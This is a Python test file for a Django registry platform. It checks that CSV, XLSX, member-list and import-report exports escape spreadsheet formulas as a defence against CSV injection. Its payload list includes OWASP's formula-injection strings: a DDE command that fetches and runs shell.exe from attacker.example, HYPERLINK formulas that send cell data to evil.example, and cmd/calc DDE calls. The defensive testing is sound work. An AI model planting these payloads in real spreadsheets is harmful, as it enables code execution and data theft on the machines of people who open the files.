"""One safe-cell rule for every spreadsheet the platform writes (CSV injection, OWASP)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import PersonFactory, StaffFactory, make_organization
from tests.networks.helpers import join, network
from verbund.core.spreadsheets import safe_cell, unsafe_cell
from verbund.networks import services as network_services
from verbund.organizations import exporting, import_checks, importing, queries, reading

# The payloads of OWASP's "CSV Injection" page, plus the tab and carriage-return variants and
# leading blanks that some programs skip before they read a formula.
OWASP_PAYLOADS = [
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example?x="&A1&B1,"Error: please click for further information")',
    '=1+HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\n-3+3+cmd|' /C calc'!D2",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "=2",
    "-1",
    "+49 30 1234567",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_is_kept_as_text(payload: str) -> None:
    guarded = safe_cell(payload)
    assert guarded == "'" + payload
    assert unsafe_cell(guarded) == payload


@pytest.mark.parametrize("text", ["Verein e.V.", "1998", "a=b", "Köln-Mülheim", "", "'quoted"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text
    assert unsafe_cell(text) == text


NAMES = [
    '=HYPERLINK("http://evil.example","Klick")',
    "=1+HYPERLINK(1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "+cmd|' /C calc'!A0",
]


@pytest.fixture
def payload_registry(db: Any) -> list[Any]:
    return [
        make_organization(name=name, city="Köln", description={"de": "=cmd|' /C calc'!A0"})
        for name in NAMES
    ]


def test_the_registry_export_and_the_open_data_csv_carry_no_formula(
    client: Any, payload_registry: list[Any]
) -> None:
    everything = queries.matching(queries.parse_filters({}))
    exported = exporting.to_csv(everything, PersonFactory()).decode("utf-8-sig")
    api = client.get("/api/v1/organisations.csv")
    assert api.status_code == 200
    for text, delimiter in ((exported, ";"), (api.content.decode("utf-8-sig"), ",")):
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        cells = [cell for row in rows[1:] for cell in row]
        assert {name for name in NAMES} <= {unsafe_cell(cell) for cell in cells}
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells


def test_the_xlsx_export_has_no_formula_cells(client: Any, payload_registry: list[Any]) -> None:
    client.force_login(StaffFactory())
    for organization in payload_registry[:1]:
        # Years and coordinates are number cells (a number is never a formula).
        from verbund.core.actors import OPERATOR
        from verbund.organizations import services as organization_services

        organization_services.update_organization(
            OPERATOR,
            organization,
            {"founding_year": 1998, "latitude": "50.900000", "longitude": "6.900000"},
        )
    response = client.get("/de/organisations/export/?format=xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s", "n"}
    numbers = [cell for cell in cells if cell.value is not None and cell.data_type == "n"]
    assert {header[cell.column - 1] for cell in numbers} == {
        "Gründungsjahr",
        "Breitengrad",
        "Längengrad",
    }
    assert not [cell for cell in cells if cell.data_type == "f"]
    names = {unsafe_cell(str(cell.value)) for cell in cells if cell.value}
    assert set(NAMES) <= names
    # And what was exported imports again as the same names.
    table = reading.read_table(response.content, "export.xlsx")
    mapping = import_checks.suggest_mapping(table.headers)
    checks = import_checks.check_rows(table.rows, mapping, "de")
    assert set(NAMES) <= {check.name for check in checks}


def test_the_member_list_and_the_import_report_guard_their_cells(
    client: Any, payload_registry: list[Any]
) -> None:
    staff = StaffFactory()
    office = PersonFactory()
    bund = network("Bund der Tabellen")
    network_services.set_network_role(staff, bund, office, "office")
    join(staff, bund, *payload_registry)
    client.force_login(office)
    response = client.get(reverse("networks:members_csv", kwargs={"slug": bund.slug}))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = [row[0] for row in rows[1:]]
    assert sorted(names) == sorted("'" + name for name in NAMES)

    report = importing.report_csv(
        [
            {"row": 2, "name": name, "outcome": "created", "slug": "x", "message": "@x"}
            for name in NAMES
        ],
        "de",
    ).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(report), delimiter=";") for cell in row]
    assert not [c for c in cells if c and c[0] in "=+-@"]
